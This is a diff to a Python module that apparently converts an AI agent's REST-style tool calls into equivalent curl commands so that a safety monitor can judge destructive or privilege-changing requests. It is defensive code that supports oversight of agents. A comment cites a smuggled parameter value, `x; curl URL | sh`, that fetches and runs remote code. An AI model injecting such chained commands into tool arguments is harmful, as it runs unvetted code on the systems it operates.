@@ -340,6 +340,38 @@ _SMUGGLED = re.compile(
 )
 
 
+def _rest_passthrough(tool: str, arguments: dict[str, Any]) -> str:
+    """`elasticsearch.general_api_request(method="DELETE", path="/_slm/policy/nightly")`, `kibana.call_api(
+    method="POST", path=..., body={...})`: a tool that hands its service a REST request, written as that
+    request sent with curl, so the request's own reading judges it (a delete, a control switched off, a
+    role granted). Its host stands for the server's service, inside the organisation: where the tool sends
+    is the server's configuration, not the call's."""
+    method, path = arguments.get("method"), arguments.get("path", arguments.get("endpoint"))
+    if not (
+        isinstance(method, str)
+        and method.upper() in _REST_METHODS
+        and isinstance(path, str)
+        and path.startswith("/")
+        and len(path) < 2048
+    ):
+        return ""
+    server = tool.split("__")[1] if tool.count("__") >= 2 else "service"
+    host = (re.sub(r"[^a-z0-9-]+", "-", server.lower()).strip("-") or "service") + ".mcp.internal"
+    words = ["curl", "-s", "-X", method.upper(), f"https://{host}{path}"]
+    body = next(
+        (arguments[k] for k in ("body", "data", "json", "payload") if arguments.get(k) is not None), None
+    )
+    if body is not None:
+        import json
+
+        text = body if isinstance(body, str) else json.dumps(body)
+        words += ["-H", "Content-Type: application/json", "-d", text[:100_000]]
+    return " ".join(shell.quote(w) for w in words)
+
+
+_REST_METHODS = frozenset({"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"})
+
+
 def _smuggled_lines(arguments: dict[str, Any], spec: ToolSpec) -> list[str]:
     """The shell lines chained onto an unknown tool's parameters (never its message, body or description:
     text for people may quote a command), to be judged as the commands they are when the parameter is
@@ -457,6 +489,8 @@ def _normalize(
             given = " ".join([*spec.wraps, shell.quote(given)])
         if given and given.strip():
             lines.append(given)
+    if not lines and tool not in KNOWN_TOOLS and (request := _rest_passthrough(tool, arguments)):
+        lines.append(request)
     if not lines and tool not in KNOWN_TOOLS:  # `trigger_dag(conf={"select": "x; curl URL | sh"})`
         lines.extend(_smuggled_lines(arguments, spec))
     for statement in sql_statements(arguments):  # SQL that runs a program (`COPY ... TO PROGRAM`)
